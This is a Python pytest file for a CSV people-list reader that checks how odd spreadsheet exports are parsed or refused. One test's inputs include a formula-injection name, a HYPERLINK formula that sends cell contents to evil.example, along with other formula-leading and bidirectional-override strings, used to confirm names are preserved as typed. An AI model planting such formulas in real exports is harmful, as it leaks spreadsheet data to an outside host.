"""Lists of odd make: each is read as it is meant, or refused with cause and remedy."""

from collections.abc import Collection
from dataclasses import dataclass
from pathlib import Path

import pytest

from fairlot.errors import InputError
from fairlot.inputs import people_file
from fairlot.inputs.people_file import Person, read_people
from fairlot.money import Currency

EUR, JPY, KWD = Currency("EUR", 2), Currency("JPY", 0), Currency("KWD", 3)
HEADER = "person,wants,deposit\n"
LARGEST = 2**64 - 1


@dataclass(frozen=True)
class File:
    """A file that some program left, and what it says."""

    name: str
    data: str | bytes
    says: dict[str, int] | None = None
    """The deposits of all people, if it is read."""
    code: str = ""
    """The rule that it breaks, if it is refused."""
    hint: str = ""
    """What the error says to do."""
    line: int | None = None
    currency: Currency | None = None
    keep: tuple[str, ...] = ()


def excel(*rows: str, mark: str = "") -> str:
    """Write rows as a spreadsheet does."""
    return mark + "".join(f"{row}\r\n" for row in rows)


GARDEN = {"Ingrid Sæther": 0, "Tomás Ó Briain": 0, "Wu Li": 0}
PLAIN = ("person,wants,deposit", "Ingrid Sæther,1,0", "Tomás Ó Briain,1,0", "Wu Li,1,0")

READ = (
    # Padding.
    File("rows-of-commas-at-the-end", excel(*PLAIN, ",,", ",,"), GARDEN),
    File("row-of-commas-between", excel(*PLAIN[:2], ",,", *PLAIN[2:]), GARDEN),
    File("rows-of-quoted-nothing", excel(*PLAIN, '"","",""', '" ",,'), GARDEN),
    File("rows-of-commas-before", excel(",,", "", *PLAIN), GARDEN),
    File("empty-columns", excel(*(f"{row},," for row in PLAIN)), GARDEN),
    File(
        "empty-columns-that-end-early",
        excel(*(f"{row},," for row in PLAIN[:2]), *PLAIN[2:]),
        GARDEN,
    ),
    File("blank-lines", excel(*PLAIN[:2], "", "  ", *PLAIN[2:], "\t"), GARDEN),
    File(
        "blanks-around-cells",
        excel(
            "person , wants,deposit\u00a0",
            " Ingrid Sæther,1 , 0",
            "Tomás Ó Briain ,1,0\t",
            "\u3000Wu Li,\u00a01,0",
        ),
        GARDEN,
    ),
    File("capitals", excel("Person,WANTS,Deposit", *PLAIN[1:]), GARDEN),
    File(
        "columns-in-another-order",
        excel("deposit,person,wants", "0,Wu Li,1"),
        {"Wu Li": 0},
    ),
    # Bytes.
    File("control-z", excel(*PLAIN) + "\x1a", GARDEN),
    File("control-z-padding", excel(*PLAIN) + "\x1a\x1a\r\n\x1a", GARDEN),
    File("old-mac", excel(*PLAIN).replace("\r\n", "\r"), GARDEN),
    File("line-ends-twice-converted", excel(*PLAIN).replace("\r", "\r\r"), GARDEN),
    File("utf-8-with-mark", excel(*PLAIN, mark="\ufeff"), GARDEN),
    File("two-marks", excel(*PLAIN, mark="\ufeff\ufeff"), GARDEN),
    File("utf-16-le", b"\xff\xfe" + excel(*PLAIN).encode("utf-16-le"), GARDEN),
    File("utf-16-be", b"\xfe\xff" + excel(*PLAIN).encode("utf-16-be"), GARDEN),
    File(
        "unicode-text-of-a-spreadsheet",
        b"\xff\xfe" + excel(*PLAIN).replace(",", "\t").encode("utf-16-le"),
        GARDEN,
    ),
    File("decomposed-letters", excel(HEADER[:-1], "Zoe\u0308,1,0"), {"Zoë": 0}),
    # Separators and quotation marks.
    File("sep-semicolon", excel("sep=;", *PLAIN).replace(",", ";"), GARDEN),
    File("sep-comma", excel("sep=,", *PLAIN), GARDEN),
    File("sep-padded", excel('"SEP=,",,', *PLAIN), GARDEN),
    File("semicolons", excel(*PLAIN, mark="\ufeff").replace(",", ";"), GARDEN),
    File("tabs", excel(*PLAIN).replace(",", "\t"), GARDEN),
    File(
        "commas-in-cells-between-semicolons",
        excel("person;wants;deposit", "Lee, Ann;1;0", '"Doe; Jane";1;0'),
        {"Lee, Ann": 0, "Doe; Jane": 0},
    ),
    File(
        "blanks-before-quotes", excel(HEADER, '"Lee, Ann", "1", "0"'), {"Lee, Ann": 0}
    ),
    File("nickname-in-quotes", excel(HEADER, 'Al "Bo" Lee,1,0'), {'Al "Bo" Lee': 0}),
    File("line-break-at-the-end-of-a-cell", excel(HEADER, '"Ann\n",1,0'), {"Ann": 0}),
    File(
        "own-columns-with-line-breaks",
        excel(
            'E-Mail,person,wants,deposit,"Full\naddress"',
            'a@x.example,Ann,1,0,"1 High St\nFlat 2"',
        ),
        {"Ann": 0},
        keep=("e-mail", "full address"),
    ),
    File(
        "an-own-column-of-our-name",
        excel("person,wants,deposit,tier", "Ann,1,0,\x00never read"),
        {"Ann": 0},
        keep=("tier", "person"),
    ),
    # Money.
    File(
        "amounts-of-a-german-spreadsheet",
        excel(
            "person;wants;deposit",
            "A;1;450",
            "B;1;450,00",
            "C;1;1.450,5",
            "D;1;1.234.567,89",
            "E;1;€ 450",
            "F;1;450,00\u00a0€",
            "G;1;0,50",
        ),
        {"A": 45000, "B": 45000, "C": 145050, "D": 123456789}
        | {"E": 45000, "F": 45000, "G": 50},
        currency=EUR,
    ),
    File(
        "amounts-of-other-spreadsheets",
        excel(
            HEADER,
            "A,1,450.00",
            'B,1,"1,450.00"',
            "C,1,1'450.00",
            "D,1,1 450",
            'E,1,"1\u202f450,00 EUR"',
            'F,1,"1,450,000"',
            "G,1,eur 7",
            "H,1,1’450",
        ),
        {"A": 45000, "B": 145000, "C": 145000, "D": 145000, "E": 145000}
        | {"F": 145000000, "G": 700, "H": 145000},
        currency=EUR,
    ),
    File(
        "thousands-of-a-currency-without-decimals",
        excel(HEADER, 'A,1,"¥1,450"', "B,1,1.450", "C,1,1450"),
        {"A": 1450, "B": 1450, "C": 1450},
        currency=JPY,
    ),
    File(
        "three-decimals-behind-a-point",
        excel(HEADER, "A,1,1.450", 'B,1,"1,450.250"', "C,1,1450.250"),
        {"A": 1450, "B": 1450250, "C": 1450250},
        currency=KWD,
    ),
)


def amount(name: str, cell: str, hint: str, currency: Currency | None = None) -> File:
    """Return a list with one amount that is refused."""
    data = f'{HEADER}Ann,1,0\nBob,1,"{cell}"\n'
    return File(name, data, None, "number", hint, 3, currency)


REFUSED = (
    # Bytes.
    File(
        "cp1252",
        excel(HEADER[:-1], "Jürgen Weiß,1,0").encode("cp1252"),
        code="utf8",
        hint="as Windows-1252 it would be 'Jürgen Weiß,1,0'): save the list as “CSV UTF-8”",
        line=2,
    ),
    File(
        "old-mac-roman",
        excel(*PLAIN).replace("\r\n", "\r").encode("mac_roman"),
        code="utf8",
        hint="save the list as “CSV UTF-8”",
        line=2,
    ),
    File(
        "utf-16-without-mark",
        excel(*PLAIN).encode("utf-16-le"),
        code="utf8",
        hint="is UTF-16 without a byte order mark: save the list",
        line=1,
    ),
    File(
        "workbook",
        b"PK\x03\x04\x14\x00\x06\x00",
        code="utf8",
        hint="is a workbook and not CSV: save the list",
        line=1,
    ),
    File(
        "control-z-inside",
        excel(*PLAIN[:3], "Wu\x1aLi,1,0"),
        code="person",
        hint="holds a control character (U+001A): remove it",
        line=4,
    ),
    # Rows and columns.
    File(
        "short-rows",
        excel(f"{PLAIN[0]},group", *PLAIN[1:3], f"{PLAIN[3]},"),
        code="columns",
        hint="write empty cells too (here group), or move a column that is never empty",
        line=2,
    ),
    File(
        "comma-without-quotes",
        excel(HEADER[:-1], "Ann,1,450,00"),
        code="columns",
        hint="quote a cell that holds the separator",
        line=2,
    ),
    File(
        "empty-cell-too-many",
        excel(f"{PLAIN[0]},group", "Ann,1,450,50,"),
        code="columns",
        hint="remove cells beyond the columns",
        line=2,
    ),
    File(
        "note-beside-the-table",
        excel(f"{PLAIN[0]},", "Ann,1,0,", "Bob,1,0,paid?"),
        code="columns",
        hint="holds 'paid?' in column 4, which has no name in the first line: name it",
        line=3,
    ),
    File(
        "own-columns",
        excel("email,person,wants,deposit", "a@x.example,Ann,1,0"),
        code="header",
        hint="unknown column 'email': name it in keep under [people] of TERMS.toml",
        line=1,
    ),
    File(
        "title-above-the-table",
        excel("Weihnachtsmarkt 2027", *PLAIN),
        code="header",
        hint="names no column person, found 'Weihnachtsmarkt 2027': add it",
        line=1,
    ),
    File(
        "other-names-of-columns",
        excel("persons,wants,deposit", "Ann,1,0"),
        code="header",
        hint="write person for persons",
        line=1,
    ),
    File(
        "bars",
        excel(*PLAIN).replace(",", "|"),
        code="separator",
        hint="separated by '|': use commas, semicolons or tabs",
        line=1,
    ),
    File(
        "sep-of-another-file",
        excel("sep=;", *PLAIN),
        code="separator",
        hint="separated by ',': the line sep=; is wrong, remove it",
        line=2,
    ),
    File(
        "line-break-in-a-cell",
        excel(HEADER[:-1], '"Weiß', 'Jürgen",1,0'),
        code="person",
        hint="'Weiß\\nJürgen' holds a line break: write it in one line",
        line=2,
    ),
    File(
        "quotation-mark-left-open",
        excel(*PLAIN[:2], '"Tomás Ó Briain,1,0', *PLAIN[3:]),
        code="quote",
        hint="a quotation mark begins a cell that does not end",
        line=3,
    ),
    File(
        "quotation-mark-too-early",
        excel(*PLAIN[:2], '"Tomás" Ó Briain,1,0'),
        code="quote",
        hint="a quotation mark is misplaced: begin and end such a cell with a mark",
        line=3,
    ),
    # Money.
    amount("decimals-without-currency", "450,00", "write 45000, or set currency and"),
    amount("point-without-currency", "450.5", "write 45050, or set currency and"),
    amount("thousands-without-currency", "1.450,00", "write 145000, or set currency"),
    amount("groups-without-currency", "45 000", "write 45000, or set currency"),
    amount("sign-without-currency", "450 €", "set currency and decimals in TERMS.toml"),
    amount("exponent-without-currency", "4.5E+04", "show the column without exponents"),
    amount("leading-zero-without-currency", "0450", "write 450, or set currency"),
    amount("two-readings", "1.450", "can be 1450 and 1.450, found", EUR),
    amount("two-readings-by-comma", "1,450", "write 1450 or 1.45", EUR),
    amount("two-readings-by-sign", "€ 1.450", "write 1450 or 1.45", EUR),
    amount("two-readings-of-three-decimals", "1,450", "write 1450 or 1.45", KWD),
    amount("one-reading-too-fine", "1.455", "write 1455 if the mark groups", EUR),
    amount("too-many-decimals", "450,0000", "must have at most 2 decimals", EUR),
    amount("decimals-of-none", "450.5", "must have at most 0 decimals", JPY),
    amount("other-currency", "450 $", "holds '$', and amounts are in EUR", EUR),
    amount("other-code", "CHF 450", "holds 'CHF', and amounts are in EUR", EUR),
    amount("negative", "-450", "must be an amount of EUR", EUR),
    amount("negative-of-accountants", "(450)", "holds '('", EUR),
    amount("zero-of-accountants", "-", "must be an amount of EUR", EUR),
    amount("exponent", "4.5E+04", "show the column without exponents", EUR),
    amount("groups-of-two", "1,45,000", "must be an amount of EUR", EUR),
    amount("one-mark-for-both", "1.450.00", "must be an amount of EUR", EUR),
    amount("mixed-groups", "1.450 000", "must be an amount of EUR", EUR),
    amount("other-digits", "４５０", "must be an amount of EUR", EUR),
    amount("no-amount", "", "must be an amount of EUR", EUR),
    File(
        "amount-beyond-64-bits",
        f"{HEADER}Ann,1,{LARGEST + 1}\n",
        code="range",
        hint="use a larger unit",
        line=2,
    ),
    File(
        "amount-beyond-64-bits-with-decimals",
        f"{HEADER}Ann,1,{LARGEST}\n",
        code="range",
        hint="use a larger unit",
        line=2,
        currency=EUR,
    ),
    File(
        "count-with-decimals",
        f"{HEADER}Ann,1.0,5\n",
        code="number",
        hint="found '1.0': write 1",
        line=2,
        currency=EUR,
    ),
)


def read(folder: Path, file: File) -> tuple[Person, ...]:
    path = folder / "PEOPLE.csv"
    data = file.data
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return read_people(path, file.currency, file.keep)


@pytest.mark.parametrize("file", READ, ids=lambda file: str(file.name))
def test_a_list_is_read_as_it_is_meant(tmp_path: Path, file: File) -> None:
    people = read(tmp_path, file)
    assert {person.name: person.amount for person in people} == file.says
    assert all(person.wants == 1 for person in people)
    assert all(person.tier is None for person in people)


@pytest.mark.parametrize("file", REFUSED, ids=lambda file: str(file.name))
def test_a_list_is_refused_with_cause_and_remedy(tmp_path: Path, file: File) -> None:
    with pytest.raises(InputError) as caught:
        read(tmp_path, file)
    error = caught.value
    assert (error.code, error.line) == (f"people-file.{file.code}", file.line)
    assert file.hint in error.message


def test_there_are_thirty_of_them() -> None:
    names = [file.name for file in (*READ, *REFUSED)]
    assert len(names) == len(set(names)) >= 30


def test_lines_are_those_of_the_file(tmp_path: Path) -> None:
    text = 'sep=,\n\n\nperson,wants,deposit,note\nA,1,0,"x\ny"\n,,,\nB,1,0,\nC,x,0,\n'
    with pytest.raises(InputError) as caught:
        read(tmp_path, File("lines", text, keep=("note",)))
    assert caught.value.line == 9
    people = read(tmp_path, File("lines", text.replace("x,0", "1,0"), keep=("note",)))
    assert [person.line for person in people] == [5, 8, 9]


def all_errors(folder: Path, file: File) -> list[tuple[str, int | None, str]]:
    with pytest.raises(InputError) as caught:
        read(folder, file)
    error = caught.value
    return [
        (e.code.removeprefix("people-file."), e.line, e.field)
        for e in (error, *error.more)
    ]


def test_all_that_is_wrong_is_said_in_one_go(tmp_path: Path) -> None:
    rows = (
        "person,wants,deposit,group,bid",
        "Ann,one,4.5,a\x00,x",
        "Bob,1,5",
        "Cat,1,5,we,",
        "cat,1,5,we,",
        ",1,5,we,",
        '"Dan"x,1,5,we,',
        "Eve,never,read,,",
    )
    assert all_errors(tmp_path, File("many", excel(*rows))) == [
        ("number", 2, "wants"),
        ("number", 2, "deposit"),
        ("text", 2, "group"),
        ("number", 2, "bid"),
        ("columns", 3, ""),
        ("duplicate", 5, "person"),
        ("person", 6, "person"),
        ("quote", 7, ""),
    ]


def test_all_wrong_columns_are_named_in_one_go(tmp_path: Path) -> None:
    header = "e-mail,person,wants,deposit,attr:a-b,bid,bid,phone"
    assert all_errors(tmp_path, File("many", excel(header))) == [
        ("header", 1, ""),
        ("attribute", 1, "attr:a-b"),
        ("header", 1, ""),
        ("header", 1, ""),
    ]


def named(
    folder: Path, *rows: str, keep: Collection[str] = ()
) -> list[tuple[str, str | None]]:
    people = read(folder, File("ids", excel(*rows), keep=tuple(keep)))
    return [(person.name, person.called) for person in people]


def test_an_id_tells_namesakes_apart(tmp_path: Path) -> None:
    rows = ("ID,person,wants,deposit", "7,Ann Lee,1,0", ",Bob,1,0", "8,ANN  LEE,1,0")
    assert named(tmp_path, *rows) == [
        ("7", "Ann Lee"),
        ("Bob", None),
        ("8", "ANN  LEE"),
    ]


@pytest.mark.parametrize(
    ("rows", "line", "field"),
    [
        (("7,Ann,1,0", "7,Bob,1,0"), 3, "id"),
        (("a7,Ann,1,0", "A7\u200b,Bob,1,0"), 3, "id"),
        (("7,Ann,1,0", ",Ann,1,0"), 3, "person"),
        ((",Ann,1,0", "7,Ann,1,0"), 3, "person"),
        (("7,Ann,1,0", "8,Ann,1,0", ",Ann,1,0"), 4, "person"),
        (("Bob,Ann,1,0", ",Bob,1,0"), 3, "person"),
        ((",Bob,1,0", "bob,Ann,1,0"), 3, "id"),
    ],
)
def test_an_id_is_one_persons(
    tmp_path: Path, rows: tuple[str, ...], line: int, field: str
) -> None:
    file = File("ids", excel("id,person,wants,deposit", *rows))
    assert all_errors(tmp_path, file) == [("duplicate", line, field)]


def test_ids_keep_the_rules_of_names(tmp_path: Path) -> None:
    rows = ("\u200b,Ann,1,0", "a\u2028b,Bob,1,0", "7,,1,0", "8,\u2060,1,0")
    file = File("ids", excel("id,person,wants,deposit", *rows))
    assert all_errors(tmp_path, file) == [
        ("person", 2, "id"),
        ("person", 3, "id"),
        ("person", 4, "person"),
        ("person", 5, "person"),
    ]


def test_an_id_may_be_a_column_of_the_seller(tmp_path: Path) -> None:
    rows = ("id,person,wants,deposit", "7,Ann,1,0", "7,Bob,1,0")
    assert named(tmp_path, *rows, keep=["id"]) == [("Ann", None), ("Bob", None)]


ZOE = "Zoë Müller"
SPELLINGS = (
    *("Zoë\u00a0Müller", "Zoë Müller\u200b", "Zoë  Müller", "ZOË MÜLLER", "zoë müller"),
    *("Zoë Mül\u00adler", "\u200fZoë Müller", "Zoё Мüller", "Zoë\u2060 Müller"),
    *("\ufeffZoë Müller", "Zoe\u0308 Mu\u0308ller"),
)


def test_one_person_in_eleven_spellings_has_one_row(tmp_path: Path) -> None:
    rows = [f"{name},1,1000" for name in (ZOE, *SPELLINGS, "Ben Ode")]
    file = File("spellings", excel(HEADER[:-1], *rows))
    look_alike = 3 + SPELLINGS.index("Zoё Мüller")
    lines = [n for n in range(3, 3 + len(SPELLINGS)) if n != look_alike]
    assert all_errors(tmp_path, file) == [("duplicate", n, "person") for n in lines]
    with pytest.raises(
        InputError, match="is the same person as 'Zoë Müller' on line 2"
    ):
        read(tmp_path, file)


def test_what_is_not_assigned_is_not_normalised(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A later Unicode could decompose it into what is assigned today."""
    file = File("decomposed", f"{HEADER}Zoe\u0308,1,0\n")
    assert read(tmp_path, file)[0].name == "Zoë"
    monkeypatch.setattr(people_file, "is_assigned", "Zoe".__contains__)
    assert all_errors(tmp_path, file) == [("person", 2, "person")]


def test_names_are_written_out_as_typed(tmp_path: Path) -> None:
    names = [
        '=HYPERLINK("http://evil.example/?"&A2,"Anna")',
        *("+49 30 1234", "-Bo", "@SUM(1+1)", "محمد علي", "יעל כהן", "李小龙"),
        *("👩‍👩‍👧 Family", "Nguyễn Thị Ánh", 'D\'Angelo, "Tony"', "Łukasz Żak"),
        *("İpek Iğdır", "\u202eevil", "\u2068Ann\u2069"),
    ]
    doubled = (name.replace('"', '""') for name in names)
    rows = [f'"{name}",1,0' for name in doubled]
    people = read(tmp_path, File("names", excel(HEADER[:-1], *rows)))
    assert [person.name for person in people] == names
